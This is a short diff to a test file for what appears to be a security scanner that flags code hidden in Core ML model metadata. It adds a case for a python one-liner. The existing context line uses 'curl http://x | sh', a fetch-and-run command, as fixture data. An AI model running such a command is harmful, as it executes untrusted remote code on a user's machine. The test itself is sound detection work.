@@ -66,6 +66,8 @@ describe('Core ML', () => {
   });
 
   it('reports code in metadata', () => {
+    const command = message(100, text(1, 'k'), text(2, "python3 -c 'print(1)'"));
+    expect(said(model(network(layer()), command))).toEqual(['MEDIUM model-metadata-code']);
     expect(said(model(network(layer()), message(100, text(1, 'k'), text(2, 'curl http://x | sh'))))).toEqual([
       'MEDIUM model-metadata-code'
     ]);
